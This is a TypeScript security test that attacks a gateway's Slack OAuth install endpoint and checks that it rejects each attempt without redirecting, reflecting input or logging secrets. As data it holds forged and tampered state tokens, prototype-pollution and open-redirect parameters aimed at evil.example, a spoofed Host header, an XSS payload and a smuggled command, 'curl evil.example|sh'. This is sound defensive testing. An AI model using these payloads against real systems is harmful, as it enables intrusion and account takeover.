/** The public address people come back to, as somebody who means ill sees it: the real gateway, by real HTTP. */
import { once } from "node:events";
import { connect } from "node:net";
import { expect, it } from "vitest";
import { gatewayAndSlack } from "./gateway-and-slack.test.helper.ts";
import { letIn } from "./let-in.test.helper.ts";

/** What comes back for bytes that no client would send. */
async function raw(base: string, bytes: string): Promise<string> {
  const { hostname, port } = new URL(base);
  const socket = connect(Number(port), hostname);
  let answer = "";
  socket.setEncoding("utf8").on("data", (text: string) => {
    answer += text;
  });
  socket.on("error", () => {});
  socket.write(bytes);
  await once(socket, "close");
  return answer;
}

it("SEC_002 nothing but the address that was given out makes an account, and that one once", {
  timeout: 90_000,
}, async () => {
  await using it = await gatewayAndSlack("webhook");
  const { url } = await it.client.request("channels.install", { channel: "slack" });
  const back = await letIn(url, "Acme");
  const state = back.searchParams.get("state") ?? "";
  const code = back.searchParams.get("code") ?? "";
  const [body = "", signature = ""] = state.split(".");
  const said = JSON.parse(Buffer.from(body, "base64url").toString()) as Readonly<Record<string, unknown>>;
  const saying = (changes: object) => Buffer.from(JSON.stringify({ ...said, ...changes })).toString("base64url");
  const at = (query: Readonly<Record<string, string>>, channel = "slack") =>
    `${it.base}/install/${channel}?${new URLSearchParams(query)}`;
  const hostile = [
    ...[
      "",
      ".",
      `${body}.`,
      `.${signature}`,
      `${state}A`,
      `${state}=`,
      `${body}.${signature.slice(0, -1)}${signature.endsWith("A") ? "B" : "A"}`,
      `${saying({ until: Number.MAX_SAFE_INTEGER })}.${signature}`,
      `${saying({ tenant: "another" })}.${signature}`,
      `${saying({ account: "another" })}.${signature}`,
      `${saying({ account: { toString: "x" } })}.${signature}`,
      `${Buffer.from("[]").toString("base64url")}.${signature}`,
      "A".repeat(9_000),
      "__proto__",
    ].map((each) => at({ state: each, code })),
    // Good for another channel, given twice, or in other clothes.
    at({ state, code }, "telegram"),
    at({ state, code }, "Slack"),
    at({ state, code }, "slack%00"),
    `${at({ state, code })}&state=${state}`,
    `${it.base}/install/slack?state[]=${state}&code=${code}`,
    `${it.base}/install/slack?__proto__[state]=${state}&code=${code}`,
  ];
  for (const address of hostile) {
    const answer = await fetch(address, { redirect: "manual" });
    expect([address, answer.status]).toEqual([address, 401]);
    expect(answer.headers.get("location")).toBeNull();
    expect(answer.headers.get("set-cookie")).toBeNull();
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(await answer.text()).toContain("SEC_002");
  }

  // What stands in the address is no command to copy, and no page.
  for (const channel of [
    "slack;curl evil.example|sh",
    "<img src=x onerror=alert(1)>",
    "slack && evil",
    "\u202eslack",
  ]) {
    const answer = await fetch(at({ state, code }, encodeURIComponent(channel)), { redirect: "manual" });
    const text = await answer.text();
    expect(answer.status).toBe(401);
    expect(text).not.toMatch(/evil|<img|\u202e/);
  }

  // Nowhere to be sent to, whatever is asked for.
  for (const name of ["redirect_uri", "next", "url", "return_to"]) {
    const answer = await fetch(at({ [name]: "https://evil.example/" }), { redirect: "manual" });
    expect([answer.status, answer.headers.get("location")]).toEqual([401, null]);
    expect(await answer.text()).not.toContain("evil.example");
  }

  // Other methods, with all that is needed: they use nothing up.
  for (const method of ["HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]) {
    const answer = await fetch(back, { method, redirect: "manual", headers: { "x-http-method-override": "GET" } });
    expect([method, answer.status]).toEqual([method, 404]);
  }
  const { pathname, search } = back;
  const huge = await raw(it.base, `GET ${pathname}?x=${"x".repeat(100_000)} HTTP/1.1\r\nhost: a\r\n\r\n`);
  expect(huge).toMatch(/^HTTP\/1\.1 4(31|14) /);
  // Who says to be another host learns no address there, nor is anybody sent to it.
  const elsewhere = await raw(
    it.base,
    `GET /install/slack?state=x HTTP/1.1\r\nhost: evil.example\r\nx-forwarded-host: evil.example\r\nconnection: close\r\n\r\n`,
  );
  expect(elsewhere).toMatch(/^HTTP\/1\.1 401 /);
  expect(elsewhere).not.toContain("evil.example");
  expect(Object.keys(await it.states())).toEqual(["default"]);

  // All of that has left the address good, for one of many who come at once.
  const many = await Promise.all(Array.from({ length: 10 }, () => fetch(`${it.base}${pathname}${search}`)));
  expect(many.map(({ status }) => status).sort()).toEqual([200, ...Array.from({ length: 9 }, () => 401)]);
  expect(Object.keys(await it.states())).toHaveLength(2);
  const log = it.log.join("\n");
  for (const secret of [code, state, signature, ...Object.values(it.simulator.clientConfig()).slice(1)]) {
    expect(log).not.toContain(String(secret));
  }
  // Who knows nothing cannot fill the log.
  expect(log).not.toContain("SEC_002");
});
